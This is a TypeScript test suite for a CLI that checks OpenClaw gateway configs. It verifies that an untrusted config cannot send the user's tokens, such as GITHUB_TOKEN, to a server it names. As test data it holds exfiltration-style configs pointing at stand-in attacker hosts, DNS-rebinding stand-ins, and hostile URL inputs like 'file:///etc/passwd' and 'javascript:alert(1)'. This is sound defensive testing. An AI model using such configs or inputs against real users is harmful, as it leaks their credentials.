import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { X509Certificate } from 'node:crypto';
import dns, { type LookupAddress, type LookupOptions } from 'node:dns';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCheckArgs, UsageError } from '../../src/cli/args';
import { checkGateway } from '../../src/cli/gatewayCheck';
import { runCli } from '../../src/cli/main';
import { parseConfigDocument } from '../../src/core/configDocument';
import { buildGatewayModel } from '../../src/core/gatewayModel';
import { english } from '../../src/core/messages';
import { AttemptBudget } from '../../src/core/probe/attemptBudget';
import { probeGateway } from '../../src/core/probe/probeGateway';
import { isLoopbackAddress, isLoopbackHost } from '../../src/core/probe/probeTarget';
import { startFakeGateway, type FakeGateway } from '../support/fakeGateway';

/**
 * Defect 3: `check FILE --probe` let FILE decide where secrets go (remote.url, its own
 * tlsFingerprint) and which secrets (remote.token: "$GITHUB_TOKEN"). A config someone else wrote
 * sent the user's secrets to its author's server.
 *
 * Every connection here stays on loopback: names such as gw.attacker.test are answered by a
 * stand-in for dns.lookup with 127.0.0.1, or with 0.0.0.0 for "not loopback" (which can only
 * ever reach this machine).
 */

const TOKEN = 'own0token0own0token0own0token0own0token0own00000';
const GITHUB = 'ghp_ThisIsTheUsersGitHubTokenNotAGatewaySecret01';

type Answer = (hostname: string, nth: number) => LookupAddress[] | undefined;

/** Replaces dns.lookup (read at call time by net, tls and the probe) for the names `answer` knows. */
function standInDns(answer: Answer): { calls: string[]; restore: () => void } {
  const original = dns.lookup;
  const calls: string[] = [];
  const fake = (hostname: string, options: unknown, callback?: unknown): void => {
    const cb = (typeof options === 'function' ? options : callback) as (err: Error | null, address: string | LookupAddress[], family?: number) => void;
    const opts: LookupOptions = typeof options === 'object' && options !== null ? options : {};
    calls.push(hostname);
    const addresses = answer(hostname, calls.filter((h) => h === hostname).length);
    if (!addresses) {
      (original as (h: string, o: LookupOptions, c: typeof cb) => void)(hostname, opts, cb);
      return;
    }
    process.nextTick(() => (opts.all ? cb(null, addresses) : cb(null, addresses[0].address, addresses[0].family)));
  };
  Object.defineProperty(dns, 'lookup', { value: fake, writable: true, configurable: true });
  return { calls, restore: () => Object.defineProperty(dns, 'lookup', { value: original, writable: true, configurable: true }) };
}

const LOOP: LookupAddress[] = [{ address: '127.0.0.1', family: 4 }];
const NOT_LOOP: LookupAddress[] = [{ address: '0.0.0.0', family: 4 }];

let dir = '';
let tls: FakeGateway;
let plain: FakeGateway;
let pin = '';

async function cli(argv: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await runCli({
    argv,
    env: { OPENCLAW_GUARD_STATE_DIR: join(dir, 'state'), OPENCLAW_CONFIG_PATH: join(dir, 'the-users-own-openclaw.json'), HOME: dir, ...env },
    stdout: (t) => (stdout += t + '\n'),
    stderr: (t) => (stderr += t + '\n'),
    isTty: false,
  });
  return { code, stdout, stderr };
}

function write(name: string, gateway: Record<string, unknown>): string {
  const file = join(dir, name);
  writeFileSync(file, JSON.stringify({ gateway }));
  return file;
}

function probeOf(stdout: string): { state: string; code: string | null; target: string } {
  return (JSON.parse(stdout) as { probe: { state: string; code: string | null; target: string } }).probe;
}

let dnsStandIn: ReturnType<typeof standInDns>;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ocg-trust-'));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem'), '-days', '1', '-subj', '/CN=gw.attacker.test', '-addext', 'subjectAltName=DNS:gw.attacker.test,DNS:gw.example.test,IP:127.0.0.1'], { stdio: 'pipe' });
  const cert = readFileSync(join(dir, 'cert.pem'), 'utf8');
  pin = new X509Certificate(cert).fingerprint256;
  tls = await startFakeGateway('gateway', TOKEN, 0, { key: readFileSync(join(dir, 'key.pem'), 'utf8'), cert });
  plain = await startFakeGateway('gateway', TOKEN);
  dnsStandIn = standInDns((hostname) => (/^gw\.(attacker|example)\.test$/.test(hostname) ? LOOP : undefined));
});
after(async () => {
  dnsStandIn.restore();
  await tls.close();
  await plain.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('a config that is not the user\'s own cannot route secrets', () => {
  it('its remote.url and tlsFingerprint: refused, nothing sent, not even a lookup', async () => {
    const file = write('theirs.json', { mode: 'remote', remote: { url: `wss://gw.attacker.test:${tls.port}`, tlsFingerprint: pin, token: TOKEN } });
    const before = tls.received.length;
    const lookups = dnsStandIn.calls.length;
    const r = await cli(['check', file, '--probe', '--format', 'json']);
    const probe = probeOf(r.stdout);
    assert.equal(probe.state, 'refused-untrusted');
    assert.equal(probe.code, 'UNTRUSTED_URL');
    assert.equal(tls.received.length, before, 'no connect request reached the server');
    assert.equal(dnsStandIn.calls.length, lookups, 'the name was not even resolved');
    assert.equal(r.code, 1);
  });

  it('the same file as the user\'s own active config (the file OpenClaw loads) is used as written', async () => {
    const file = write('own.json', { mode: 'remote', remote: { url: `wss://gw.attacker.test:${tls.port}`, tlsFingerprint: pin, token: TOKEN } });
    const r = await cli(['check', file, '--probe', '--format', 'json'], { OPENCLAW_CONFIG_PATH: file });
    assert.equal(probeOf(r.stdout).state, 'authorized');
    const direct = await checkGateway(model(file), { env: { OPENCLAW_CONFIG_PATH: file }, allowInsecure: false, diagnose: false, configPath: join(dir, '.', 'own.json'), budget: new AttemptBudget(undefined) });
    assert.equal(direct.probe.state, 'authorized', 'by realpath, when the CLI names the file');
  });

  it('a copy naming the user\'s own remote.url gets the own config\'s pin, never its own', async () => {
    const own = write('own-pinless.json', { mode: 'remote', remote: { url: `wss://gw.example.test:${tls.port}`, token: TOKEN } });
    const theirs = write('theirs-pinned.json', { mode: 'remote', remote: { url: `wss://gw.example.test:${tls.port}`, tlsFingerprint: pin, token: TOKEN } });
    const before = tls.received.length;
    const r = await cli(['check', theirs, '--probe', '--format', 'json'], { OPENCLAW_CONFIG_PATH: own });
    assert.equal(probeOf(r.stdout).state, 'unreachable', 'the self-signed certificate is not trusted without the user\'s pin');
    assert.equal(tls.received.length, before);
    const ownPinned = write('own-pinned.json', { mode: 'remote', remote: { url: `wss://gw.example.test:${tls.port}`, tlsFingerprint: pin, token: TOKEN } });
    const ok = await cli(['check', theirs, '--probe', '--format', 'json'], { OPENCLAW_CONFIG_PATH: ownPinned });
    assert.equal(probeOf(ok.stdout).state, 'authorized');
  });

  it('--url is the user\'s choice of gateway, but the file\'s pin still does not replace CA trust', async () => {
    const file = write('theirs-url.json', { mode: 'remote', remote: { url: 'wss://elsewhere.invalid', tlsFingerprint: pin, token: TOKEN } });
    const before = tls.received.length;
    const r = await cli(['check', file, '--probe', '--format', 'json', '--url', `wss://gw.attacker.test:${tls.port}`]);
    assert.equal(probeOf(r.stdout).state, 'unreachable');
    assert.equal(tls.received.length, before);
  });

  it('a loopback remote.url is fine from any file', async () => {
    const file = write('theirs-loopback.json', { mode: 'remote', remote: { url: plain.url, token: TOKEN } });
    const r = await cli(['check', file, '--probe', '--format', 'json']);
    assert.equal(probeOf(r.stdout).state, 'authorized');
  });
});

describe('secrets from environment variables OpenClaw does not use for the gateway', () => {
  const forms: Array<[string, unknown]> = [
    ['"$GITHUB_TOKEN"', '$GITHUB_TOKEN'],
    ['"${GITHUB_TOKEN}"', '${GITHUB_TOKEN}'],
    ['a ${GITHUB_TOKEN} part', 'x-${GITHUB_TOKEN}'],
    ['an env SecretRef', { source: 'env', provider: 'default', id: 'GITHUB_TOKEN' }],
  ];
  for (const [name, token] of forms) {
    it(`remote.token as ${name} is never sent without --allow-env-secret`, async () => {
      const file = write(`env-${name.replace(/\W/g, '')}.json`, { mode: 'remote', remote: { url: plain.url, token } });
      const before = plain.received.length;
      const r = await cli(['check', file, '--probe', '--format', 'json'], { GITHUB_TOKEN: GITHUB });
      const probe = probeOf(r.stdout);
      assert.equal(probe.state, 'refused-untrusted');
      assert.equal(probe.code, 'ENV_SECRET_NOT_ALLOWED');
      assert.equal(plain.received.length, before);
      assert.ok(!r.stdout.includes(GITHUB) && !r.stdout.includes(GITHUB.slice(4, 20)));
      assert.match(r.stdout, /--allow-env-secret GITHUB_TOKEN/);
    });
  }

  it('OpenClaw\'s own variables are fine', async () => {
    const file = write('env-own.json', { mode: 'remote', remote: { url: plain.url, token: '$OPENCLAW_GATEWAY_TOKEN' } });
    const r = await cli(['check', file, '--probe', '--format', 'json'], { OPENCLAW_GATEWAY_TOKEN: TOKEN });
    assert.equal(probeOf(r.stdout).state, 'authorized');
  });

  it('--diagnose skips such candidates and says why', async () => {
    const gw = await startFakeGateway('lockout', 'nobody-has-this-one-000000000000');
    try {
      const file = write('env-diagnose.json', { mode: 'local', port: gw.port, auth: { mode: 'token', token: TOKEN }, remote: { token: '$GITHUB_TOKEN' } });
      const r = await cli(['check', file, '--diagnose', '--format', 'json', '--rule', 'token-mismatch=off'], { GITHUB_TOKEN: GITHUB });
      const out = JSON.parse(r.stdout) as { diagnosis: { skipped: Array<{ source: string; reason: string; variable?: string; origin?: { kind: string; key?: string; line?: number; file?: string } }> } };
      // Named by where it is written: the config file and line.
      assert.deepEqual(
        out.diagnosis.skipped.map(({ origin, ...rest }) => ({ ...rest, origin: origin && { kind: origin.kind, key: origin.key, line: origin.line } })),
        [{ source: 'gateway.remote.token', reason: 'env-not-allowed', variable: 'GITHUB_TOKEN', origin: { kind: 'config', key: 'gateway.remote.token', line: 1 } }],
      );
      assert.ok(gw.received.every((c) => c.token !== GITHUB));
    } finally {
      await gw.close();
    }
  });

  it('--allow-env-secret NAME (repeatable) lets that variable through', async () => {
    assert.deepEqual(parseCheckArgs(['f', '--allow-env-secret', 'GITHUB_TOKEN', '--allow-env-secret', 'OTHER_1']).allowEnvSecrets, ['GITHUB_TOKEN', 'OTHER_1']);
    assert.throws(() => parseCheckArgs(['f', '--allow-env-secret', 'NOT A NAME']), UsageError);
    const file = write('env-allowed.json', { mode: 'remote', remote: { url: plain.url, token: '$GITHUB_TOKEN' } });
    const env = { GITHUB_TOKEN: TOKEN, OPENCLAW_CONFIG_PATH: join(dir, 'none.json') };
    const allowed = await checkGateway(model(file, env), { env, allowInsecure: false, diagnose: false, allowEnvSecrets: ['GITHUB_TOKEN'], budget: new AttemptBudget(undefined) });
    assert.equal(allowed.probe.state, 'authorized');
    const other = await checkGateway(model(file, env), { env, allowInsecure: false, diagnose: false, allowEnvSecrets: ['SOMETHING_ELSE'], budget: new AttemptBudget(undefined) });
    assert.equal(other.probe.state, 'refused-untrusted');
  });

  // main.ts is another engineer's file: until its runCheck passes `allowEnvSecrets: parsed.allowEnvSecrets`
  // (and `configPath: files[0]`) to checkGateway, the flag parses but changes nothing (safe, not useful).
  it('check --allow-env-secret NAME through the CLI', async () => {
    const file = write('env-allowed-cli.json', { mode: 'remote', remote: { url: plain.url, token: '$GITHUB_TOKEN' } });
    const r = await cli(['check', file, '--probe', '--format', 'json', '--allow-env-secret', 'GITHUB_TOKEN'], { GITHUB_TOKEN: TOKEN });
    assert.equal(probeOf(r.stdout).state, 'authorized');
  });
});

describe('localhost names count as loopback only when they resolve to loopback', () => {
  const credential = { kind: 'token' as const, value: TOKEN, source: 'gateway.auth.token' as const };
  const probe = (host: string) => probeGateway({ url: `ws://${host}:${plain.port}`, credential, clientVersion: 't', deadlineMs: 2000, allowShortDeadline: true, challengeWaitMs: 0 });

  it('a *.localhost name that resolves elsewhere is refused before connecting', async () => {
    const stand = standInDns((hostname) => (hostname === 'evil.localhost' ? NOT_LOOP : hostname === 'mixed.localhost' ? [...LOOP, ...NOT_LOOP] : undefined));
    const before = plain.connections();
    try {
      for (const host of ['evil.localhost', 'mixed.localhost']) {
        const result = await probe(host);
        assert.equal(result.state, 'refused-untrusted', host);
        assert.equal(result.code, 'LOCALHOST_NOT_LOOPBACK');
        assert.match(english(result.message), /0\.0\.0\.0/);
      }
      assert.equal(plain.connections(), before, 'no connection was opened');
    } finally {
      stand.restore();
    }
  });

  it('connects to the address it checked: a second answer (DNS rebinding) is never asked for', async () => {
    const stand = standInDns((hostname, nth) => (hostname === 'rebind.localhost' ? (nth === 1 ? LOOP : NOT_LOOP) : undefined));
    try {
      const result = await probe('rebind.localhost');
      assert.equal(result.state, 'authorized', english(result.message));
      assert.deepEqual(stand.calls.filter((h) => h === 'rebind.localhost'), ['rebind.localhost']);
    } finally {
      stand.restore();
    }
  });

  it('plain localhost works as before', async () => {
    assert.equal((await probe('localhost')).state, 'authorized');
  });

  it('loopback addresses in every spelling, and nothing else', () => {
    for (const yes of ['127.0.0.1', '127.255.0.9', '::1', '[::1]', '::ffff:7f00:1', '[::ffff:127.0.0.1]', '0:0:0:0:0:0:0:1']) assert.ok(isLoopbackAddress(yes), yes);
    for (const no of ['0.0.0.0', '::', '128.0.0.1', '::ffff:c000:201', '10.0.0.1', 'localhost', 'gw.attacker.test']) assert.ok(!isLoopbackAddress(no), no);
    assert.ok(isLoopbackHost('foo.localhost') && isLoopbackHost('LOCALHOST') && !isLoopbackHost('localhost.evil.com'));
  });
});

describe('--url must be a gateway URL', () => {
  for (const url of ['http://127.0.0.1:18789', 'https://gw.example.test', 'file:///etc/passwd', 'javascript:alert(1)', 'data:,hello', '', '   ', 'not a url']) {
    it(`${JSON.stringify(url)} is a usage error (exit 2)`, async () => {
      const file = write('usage.json', { mode: 'local', auth: { token: TOKEN } });
      const r = await cli(['check', file, '--probe', '--url', url]);
      assert.equal(r.code, 2, r.stdout + r.stderr);
      assert.match(r.stderr, /--url/);
    });
  }
  it('the usage error does not echo credentials in the URL', async () => {
    const file = write('usage2.json', { mode: 'local', auth: { token: TOKEN } });
    const r = await cli(['check', file, '--probe', '--url', 'http://user:hunter2hunter2@127.0.0.1/?token=querysecret123']);
    assert.equal(r.code, 2);
    assert.ok(!r.stderr.includes('hunter2hunter2') && !r.stderr.includes('querysecret123'), r.stderr);
  });
});

function model(file: string, env: NodeJS.ProcessEnv = {}) {
  const m = buildGatewayModel(parseConfigDocument(readFileSync(file, 'utf8')), { env, inContainer: false });
  return m;
}
